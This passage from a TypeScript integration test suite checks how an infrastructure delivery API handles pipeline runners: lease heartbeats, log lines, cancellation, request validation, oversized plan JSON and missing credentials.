      expect((await stepsOf(owner.token, run.id)).map(s => s.status)).toEqual([
        'CANCELLED',
        'SKIPPED',
        'SKIPPED',
      ]);

      const heartbeat = await api.post(
        path(claimed, 'heartbeat'),
        { data: { leaseToken: claimed.leaseToken } },
        runner.key,
      );
      expect(heartbeat.status).toBe(200);
      expect(heartbeat.body).toEqual({
        data: { leaseExpiresAt: expect.any(String), cancelRequested: true },
      });
      const again = await api.post(
        path(claimed, 'heartbeat'),
        { data: { leaseToken: claimed.leaseToken } },
        runner.key,
      );
      expect(again.body.data.cancelRequested).toBe(true);

      // What the tool prints while it stops is kept, and the answer says to stop.
      const stopping = await api.post(
        path(claimed, 'logs'),
        {
          data: {
            leaseToken: claimed.leaseToken,
            lines: [
              { text: 'Interrupt received.' },
              { text: 'Stopping operation...' },
            ],
          },
        },
        runner.key,
      );
      expect(stopping.status).toBe(200);
      expect(stopping.body).toEqual({
        data: { cancelRequested: true, acceptLogsUntil: expect.any(String) },
      });
      // The runner reports once its tool has stopped: the step stays cancelled.
      const report = await api.post(
        path(claimed, 'complete'),
        {
          data: {
            leaseToken: claimed.leaseToken,
            status: 'FAILED',
            error: {
              code: 'InfraDelivery:Runner:COMMAND_FAILED',
              message: 'terraform plan was stopped',
            },
          },
        },
        runner.key,
      );
      expect(report.status).toBe(200);
      expect(stepExecutionSchema.parse(report.body.data)).toMatchObject({
        status: 'CANCELLED',
      });
      expect(report.body.data.error).toBeUndefined();
      // After the report, nothing more.
      expectLeaseLost(
        await api.post(
          path(claimed, 'logs'),
          {
            data: { leaseToken: claimed.leaseToken, lines: [{ text: 'late' }] },
          },
          runner.key,
        ),
      );
      expectLeaseLost(
        await api.post(
          path(claimed, 'complete'),
          { data: { leaseToken: claimed.leaseToken, status: 'SUCCEEDED' } },
          runner.key,
        ),
      );
      const logs = await api.get(
        `/pipeline-step-executions/${claimed.stepExecution.id}/logs`,
        owner.token,
      );
      expect(logs.body.data.map((line: { text: string }) => line.text)).toEqual(
        [
          expect.stringMatching(/^The run was cancelled by \S/),
          'Interrupt received.',
          'Stopping operation...',
          expect.stringMatching(/^The run was cancelled by \S/),
        ],
      );
      // Its runner named as the portal names it, by its service account.
      const [first, , , last] = logs.body.data.map(
        (line: { text: string }) => line.text,
      );
      expect(first).toMatch(
        new RegExp(
          `; runner ${runner.serviceAccountName} is stopping the step$`,
        ),
      );
      expect(last).toMatch(
        new RegExp(
          `; runner ${runner.serviceAccountName} has stopped the step$`,
        ),
      );

      expect(await getRun(api, owner, run.id)).toMatchObject({
        status: 'CANCELLED',
        error: {
          code: 'InfraDelivery:PipelineRun:CANCELLED',
          message: expect.stringMatching(/^The run was cancelled by \S/),
        },
      });
      expect((await stepsOf(owner.token, run.id))[0].status).toBe('CANCELLED');
      // The stack went to the next run.
      expect((await getRun(api, owner, queued.id)).status).toBe('RUNNING');
      expect((await claim(api, runner.key)).pipelineRun.id).toBe(queued.id);
    });

    it('validates runner requests (400)', async () => {
      const owner = await api.signup();
      const stack = await createStack(api, owner);
      const runner = await createRunner(api, owner);
      await trigger(api, owner, stack.changePipelineId);

      expect(
        validationItems(
          await api.post('/runner/claims', { data: {} }, runner.key),
        ),
      ).toEqual([expect.stringMatching(/^body\.data\.runnerId: /)]);
      expect(
        validationItems(
          await api.post(
            '/runner/claims',
            { data: { runnerId: 'r'.repeat(129) } },
            runner.key,
          ),
        ),
      ).toEqual([expect.stringMatching(/^body\.data\.runnerId: /)]);

      const claimed = await claim(api, runner.key);
      const leaseToken = claimed.leaseToken;

      expect(
        validationItems(
          await api.post(
            path(claimed, 'logs'),
            { data: { leaseToken, lines: [] } },
            runner.key,
          ),
        ),
      ).toEqual([expect.stringMatching(/^body\.data\.lines: /)]);
      expect(
        validationItems(
          await api.post(
            path(claimed, 'logs'),
            {
              data: {
                leaseToken,
                lines: Array.from({ length: 1001 }, () => ({ text: 'x' })),
              },
            },
            runner.key,
          ),
        ),
      ).toEqual([expect.stringMatching(/^body\.data\.lines: /)]);
      expect(
        validationItems(
          await api.post(
            path(claimed, 'logs'),
            {
              data: {
                leaseToken,
                lines: [{ text: 'x', timestamp: 'yesterday' }],
              },
            },
            runner.key,
          ),
        ),
      ).toEqual([expect.stringMatching(/^body\.data\.lines\.0\.timestamp: /)]);

      for (const [action, data] of [
        ['heartbeat', {}],
        ['logs', { lines: [{ text: 'x' }] }],
        ['complete', { status: 'SUCCEEDED' }],
      ] as const) {
        expect(
          validationItems(
            await api.post(path(claimed, action), { data }, runner.key),
          ),
        ).toEqual([expect.stringMatching(/^body\.data\.leaseToken: /)]);
      }
      expect(
        validationItems(
          await api.post(
            path(claimed, 'heartbeat'),
            { data: { leaseToken: 'short' } },
            runner.key,
          ),
        ),
      ).toEqual([expect.stringMatching(/^body\.data\.leaseToken: /)]);
      expect(
        validationItems(
          await api.post(
            path(claimed, 'complete'),
            { data: { leaseToken, status: 'DONE' } },
            runner.key,
          ),
        ),
      ).toEqual([expect.stringMatching(/^body\.data\.status: /)]);
      expect(
        validationItems(
          await api.post(
            path(claimed, 'complete'),
            {
              data: {
                leaseToken,
                status: 'FAILED',
                error: { code: 'not a code', message: 'x' },
              },
            },
            runner.key,
          ),
        ),
      ).toEqual([expect.stringMatching(/^body\.data\.error\.code: /)]);

      // None of it touched the step.
      const heartbeat = await api.post(
        path(claimed, 'heartbeat'),
        { data: { leaseToken } },
        runner.key,
      );
      expect(heartbeat.body.data.cancelRequested).toBe(false);
      const logs = await api.get(
        `/pipeline-step-executions/${claimed.stepExecution.id}/logs`,
        owner.token,
      );
      expect(logs.body.meta.totalCount).toBe(0);
    });

    it('accepts plan JSON larger than the ordinary 1 MB body limit', async () => {
      const owner = await api.signup();
      const stack = await createStack(api, owner);
      const runner = await createRunner(api, owner);
      const run = await trigger(api, owner, stack.changePipelineId);
      const claimed = await claim(api, runner.key);

      const bigPlan = planJson(200, 10_000);
      expect(JSON.stringify(bigPlan).length).toBeGreaterThan(2_000_000);

      const report = await api.post(
        path(claimed, 'complete'),
        {
          data: {
            leaseToken: claimed.leaseToken,
            status: 'SUCCEEDED',
            planJson: bigPlan,
          },
        },
        runner.key,
      );
      expect(report.status).toBe(200);
      expect(report.body.data).toMatchObject({
        id: claimed.stepExecution.id,
        status: 'SUCCEEDED',
      });
      expect((await getRun(api, owner, run.id)).status).toBe(
        'WAITING_FOR_APPROVAL',
      );

      // Elsewhere the ordinary limit holds.
      const elsewhere = await api.post(
        '/pipelines',
        {
          data: {
            projectId: stack.projectId,
            givenId: 'huge',
            name: 'Huge',
            description: 'x'.repeat(2_000_000),
            steps: [{ type: 'approval', name: 'Approve' }],
          },
        },
        owner.token,
      );
      expect(elsewhere.status).toBe(413);
      expect(elsewhere.body.code).toBe('InfraDelivery:Request:BODY_TOO_LARGE');
    });

    it('answers 401 without a credential', async () => {
      const owner = await api.signup();
      const stack = await createStack(api, owner);
      const runner = await createRunner(api, owner);
      await trigger(api, owner, stack.changePipelineId);
      const claimed = await claim(api, runner.key);
      const answers = [
        await api.post('/runner/claims', { data: { runnerId: 'r' } }),
        await api.post(path(claimed, 'heartbeat'), {
          data: { leaseToken: claimed.leaseToken },
        }),
        await api.post(path(claimed, 'logs'), {
          data: { leaseToken: claimed.leaseToken, lines: [{ text: 'x' }] },
        }),
        await api.post(path(claimed, 'complete'), {
          data: { leaseToken: claimed.leaseToken, status: 'SUCCEEDED' },
        }),
      ];
      for (const response of answers) {
        expect(response.status).toBe(401);
        expect(response.body.code).toBe(
          'InfraDelivery:Auth:MISSING_CREDENTIAL',
        );
      }
      const revoked = await api.post(
        '/runner/claims',
        { data: { runnerId: 'r' } },
        'idk_not_a_real_key',
      );
      expect(revoked.status).toBe(401);
    });
  },
);
